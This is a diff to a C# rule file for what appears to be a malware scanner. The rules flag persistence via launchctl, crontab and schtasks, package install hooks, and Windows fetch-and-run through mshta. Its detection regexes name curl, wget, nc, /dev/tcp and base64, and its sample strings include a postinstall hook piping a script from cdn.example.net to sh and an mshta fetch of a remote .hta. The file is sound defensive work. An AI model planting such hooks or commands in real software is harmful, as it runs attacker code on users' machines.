@@ -117,7 +117,7 @@ internal static class BehaviorRules
                 // Who installs himself to stay does not bring along what takes him away again.
                 new(@"\blaunchctl\s+(?:load|bootstrap)\b|\|\s*crontab\s+-|\bschtasks\b", Severity.Medium, "set up by a program that takes it away again")
                 {
-                    InFile = @"\blaunchctl\s+(?:unload|bootout|remove)\b|\bcrontab\s+-r\b|\bschtasks\b[^\n]*/delete|\b(?:un|de)install\w*\s*\(",
+                    IsUndone = true,
                     Unless = @"\bcurl\b|\bwget\b|\bnc\b|/dev/tcp|base64|/tmp/\S+\.(?:sh|py)|/dev/shm",
                 },
                 new(@"\blaunchctl\s+(?:load|bootstrap)\b[^\n;]*(?:homebrew|com\.\w+\.\w+)|systemd/(?:user|system)/", Severity.Medium, "installs a service") { Unless = @"\bcurl\b|/tmp/|/dev/|base64" },
@@ -167,7 +167,7 @@ internal static class BehaviorRules
         Rule("install-hook", Severity.High, "Runs a fetched or encoded command when a package is installed.", "Installing is enough; nobody has to call it.", "Leave hooks of installation out; build when the user asks.",
             "\"postinstall\": \"curl -s https://cdn.example.net/p.sh | sh\"", Severity.Medium,
             ["postinstall", "preinstall", "\"prepare\"", "\"install\""],
-            [new(@"""(?:pre|post)?install""\s*:\s*""[^\n]*(?:\bcurl\b|\bwget\b|node\s+-e|base64|python[\d.]*\s+-c|\bnc\b|powershell|https?://|\beval\b|/dev/tcp)[^\n]*|""prepare""\s*:\s*""[^\n]*(?:\bcurl\b|\bwget\b|base64|/dev/tcp)[^\n]*")]),
+            [new(@"""(?:pre|post)?install""\s*:\s*""[^\n]*(?:\bcurl\b|\bwget\b|node\s+-e|base64|python[\d.]*\s+-c|\bnc\b|powershell|https?://|\beval\b|/dev/tcp)[^\n]*|""prepare""\s*:\s*""[^\n]*(?:\bcurl\b|\bwget\b|base64|/dev/tcp)[^\n]*") { Except = @"^""(?:pre|post)?install""\s*:\s*""" + Fragments.TidyNode + @"(?:\s*(?:true|exit 0)"")?,?\s*$" }]),
 
         Rule("remote-script-host", Severity.High, "Has Windows fetch and run a script by one of its own programs.", "The program is signed by the system, and what it fetches runs under its name.", "Ship the script.",
             "mshta https://cdn.example.net/a.hta", Severity.Medium,
